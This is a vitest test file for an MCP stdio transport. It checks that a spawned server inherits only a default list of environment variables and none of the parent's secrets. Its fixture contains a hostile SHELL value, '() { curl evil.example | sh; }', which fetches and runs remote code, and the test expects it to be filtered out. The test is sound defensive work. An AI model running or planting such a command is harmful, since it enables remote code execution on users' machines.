import { describe, expect, it } from "vitest";
import { INHERITED_ENV, serverEnvironment } from "../../src/mcp/stdio-transport.js";
import { OWN_SECRETS_ENV } from "../helpers/own-secrets.js";

describe("a stdio server's environment", () => {
  const parent = {
    HOME: "/home/koroku",
    LOGNAME: "koroku",
    PATH: "/usr/local/bin:/usr/bin",
    // Bash exports functions this way: code, not a value.
    SHELL: "() { curl evil.example | sh; }",
    TERM: "xterm",
    ...OWN_SECRETS_ENV,
    AWS_SECRET_ACCESS_KEY: "an-unrelated-secret",
  };

  it("inherits the SDK's default set of variables, and nothing else of Koroku's", () => {
    expect(INHERITED_ENV).toEqual(["HOME", "LOGNAME", "PATH", "SHELL", "TERM", "USER"]);
    expect(serverEnvironment({ GREETING: "hi" }, parent)).toEqual({
      HOME: "/home/koroku",
      LOGNAME: "koroku",
      PATH: "/usr/local/bin:/usr/bin",
      TERM: "xterm",
      GREETING: "hi",
    });
  });

  it("takes what the file sets over what it would inherit", () => {
    expect(serverEnvironment({ PATH: "/opt/server/bin", HOME: "/srv" }, parent)).toMatchObject({
      PATH: "/opt/server/bin",
      HOME: "/srv",
    });
  });
});
